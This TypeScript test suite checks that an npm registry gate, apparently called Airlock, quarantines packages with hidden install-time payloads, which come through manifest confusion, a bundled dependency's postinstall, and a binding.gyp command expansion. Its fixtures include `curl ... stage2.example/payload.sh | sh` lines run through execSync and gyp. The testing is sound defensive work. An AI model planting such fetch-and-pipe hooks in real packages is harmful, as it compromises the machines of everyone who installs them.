/**
 * Install-time behaviour with the real npm client and the default policy. The attack: a new,
 * unknown package whose registry metadata shows no install script, while the tarball's own
 * package.json runs `node scripts/setup.js` — and that file fetches a second stage and pipes it
 * to a shell. The metadata phase has nothing to object to; the artifact phase reads the
 * tarball's package.json and the file the hook runs, and quarantines with the evidence. A
 * popular, long-established package with an ordinary install script still installs.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { daysAgo, editPackument, quarantineIdIn, signalsE2e } from './support.ts';

const NAME = 'tiny-postinstall-helper';
const SETUP = [
  "const { execSync } = require('child_process');",
  "execSync('curl -s https://stage2.example/payload.sh | sh');",
  '',
].join('\n');

interface Finding {
  rule: string;
  severity: string;
  source: string;
  evidence: string;
}

test('install scripts: the tarball package.json and the files its hooks run are analysed; a new unknown package is quarantined with evidence', async (t) => {
  const s = await signalsE2e({
    packages: [
      {
        name: NAME,
        versions: [
          {
            version: '1.0.0',
            publishedAt: daysAgo(10),
            manifest: { scripts: { postinstall: 'node scripts/setup.js' } },
            files: [{ path: 'scripts/setup.js', content: SETUP }],
          },
        ],
      },
      { name: 'core-js', versions: [{ version: '3.40.0', publishedAt: daysAgo(300), manifest: { scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } } }] },
    ],
  });
  t.after(() => s.close());
  // The registry's metadata hides the script (manifest confusion): only the tarball has it.
  await editPackument(s.registry, NAME, (doc) => {
    const v = doc.versions['1.0.0'] as Record<string, unknown>;
    delete v['scripts'];
    delete v['hasInstallScript'];
  });
  const p = await s.project();

  const meta = await s.api<{ verdict: string }>('GET', `check?purl=${encodeURIComponent(`pkg:npm/${NAME}@1.0.0`)}`);
  assert.equal(meta.body.verdict, 'allow', 'nothing to object to in the metadata');

  const held = await p.npm(['install', NAME]);
  assert.notEqual(held.code, 0);
  assert.match(held.output, /403 Forbidden - GET \S+tiny-postinstall-helper-1\.0\.0\.tgz - tiny-postinstall-helper@1\.0\.0 is quarantined by Airlock: /);
  assert.match(held.output, /downloads content and pipes it into a shell or interpreter.*\[install_behaviour\.dangerous\]/);
  assert.match(held.output, /runs install scripts \(postinstall\) and is new or not widely used \[install_behaviour\.unpopular\]/);
  const id = quarantineIdIn(held.output);
  assert.ok(id !== null, held.output);

  const shown = await s.cli(['quarantine', 'show', id, '--format', 'json']);
  assert.equal(shown.code, 0, shown.output);
  const rec = JSON.parse(shown.stdout) as { facts: { install_behaviour: { hooks: { name: string; command: string }[]; findings: Finding[] }; tarball: { install_scripts: Record<string, string> } } };
  assert.deepEqual(rec.facts.tarball.install_scripts, { postinstall: 'node scripts/setup.js' }, "evidence from the tarball's own package.json");
  assert.deepEqual(rec.facts.install_behaviour.hooks.map((h) => [h.name, h.command]), [['postinstall', 'node scripts/setup.js']]);
  const pipe = rec.facts.install_behaviour.findings.find((f) => f.rule === 'install.remote-exec.pipe-to-shell');
  assert.ok(pipe !== undefined, JSON.stringify(rec.facts.install_behaviour.findings));
  assert.deepEqual([pipe.severity, pipe.source], ['critical', 'scripts/setup.js'], 'found in the file the hook runs');
  assert.match(pipe.evidence, /curl -s https:\/\/stage2\.example\/payload\.sh \| sh/);

  const popular = await p.npm(['install', 'core-js']);
  assert.equal(popular.code, 0, popular.output);
  assert.equal((await p.readJson('node_modules/core-js/package.json'))['version'], '3.40.0');
});

test('install scripts of a bundled dependency: npm runs them, so the gate reads them from the tarball and quarantines with the evidence', async (t) => {
  // The package's own package.json and its metadata say nothing of scripts; the dependency it
  // bundles (bundleDependencies, shipped under node_modules/ in the tarball) has a postinstall,
  // which npm runs when it installs the package.
  const s = await signalsE2e({
    packages: [
      {
        name: 'bundling-helper',
        versions: [
          {
            version: '1.0.0',
            publishedAt: daysAgo(10),
            manifest: { bundleDependencies: ['inner-helper'], dependencies: { 'inner-helper': '1.0.0' } },
            files: [
              { path: 'node_modules/inner-helper/package.json', content: JSON.stringify({ name: 'inner-helper', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }) },
              { path: 'node_modules/inner-helper/setup.js', content: `require('fs').writeFileSync('POSTINSTALL_RAN', '');\n${SETUP}` },
            ],
          },
        ],
      },
    ],
  });
  t.after(() => s.close());
  const p = await s.project();

  const held = await p.npm(['install', 'bundling-helper']);
  assert.notEqual(held.code, 0, held.output);
  assert.match(held.output, /bundling-helper@1\.0\.0 is quarantined by Airlock: /);
  assert.match(held.output, /downloads content and pipes it into a shell or interpreter.*\[install_behaviour\.dangerous\]/);
  assert.match(held.output, /runs install scripts \(postinstall in node_modules\/inner-helper\) and is new or not widely used \[install_behaviour\.unpopular\]/);
  assert.equal(existsSync(join(p.dir, 'node_modules/bundling-helper/node_modules/inner-helper/POSTINSTALL_RAN')), false);

  const shown = await s.cli(['quarantine', 'show', quarantineIdIn(held.output) ?? '', '--format', 'json']);
  assert.equal(shown.code, 0, shown.output);
  const rec = JSON.parse(shown.stdout) as { facts: { install_behaviour: { findings: Finding[] }; tarball: { install_scripts: Record<string, string>; bundled_install_scripts: Record<string, Record<string, string>> } } };
  assert.deepEqual(rec.facts.tarball.install_scripts, {});
  assert.deepEqual(rec.facts.tarball.bundled_install_scripts, { 'node_modules/inner-helper': { postinstall: 'node setup.js' } });
  const pipe = rec.facts.install_behaviour.findings.find((f) => f.rule === 'install.remote-exec.pipe-to-shell');
  assert.equal(pipe?.source, 'node_modules/inner-helper/setup.js', JSON.stringify(rec.facts.install_behaviour.findings));
});

test('binding.gyp: npm builds it with node-gyp, whose command expansions run shell commands; a popular package with such a build is quarantined with the evidence', async (t) => {
  // No script anywhere: npm runs `node-gyp rebuild` because binding.gyp exists, and gyp runs the
  // `<!(…)` expansion while it configures the build. The name is popular and the version old, so
  // only what the build runs can hold it.
  const gyp = JSON.stringify({ targets: [{ target_name: 'addon', sources: ['<!(curl -s https://stage2.example/payload.sh | sh)'] }] });
  const s = await signalsE2e({ packages: [{ name: 'core-js', versions: [{ version: '3.41.0', publishedAt: daysAgo(300), files: [{ path: 'binding.gyp', content: gyp }] }] }] });
  t.after(() => s.close());
  const p = await s.project();

  const held = await p.npm(['install', 'core-js']);
  assert.notEqual(held.code, 0, held.output);
  assert.match(held.output, /core-js@3\.41\.0 is quarantined by Airlock: .*downloads content and pipes it into a shell or interpreter.*\[install_behaviour\.dangerous\]/);
  const shown = await s.cli(['quarantine', 'show', quarantineIdIn(held.output) ?? '', '--format', 'json']);
  assert.equal(shown.code, 0, shown.output);
  const rec = JSON.parse(shown.stdout) as { facts: { install_behaviour: { hooks: { name: string; command: string }[]; findings: Finding[] } } };
  assert.deepEqual(rec.facts.install_behaviour.hooks.map((h) => [h.name, h.command]), [['install', 'node-gyp rebuild']], 'the install npm adds for binding.gyp');
  const pipe = rec.facts.install_behaviour.findings.find((f) => f.rule === 'install.remote-exec.pipe-to-shell');
  assert.equal(pipe?.source, 'binding.gyp', JSON.stringify(rec.facts.install_behaviour.findings));
});
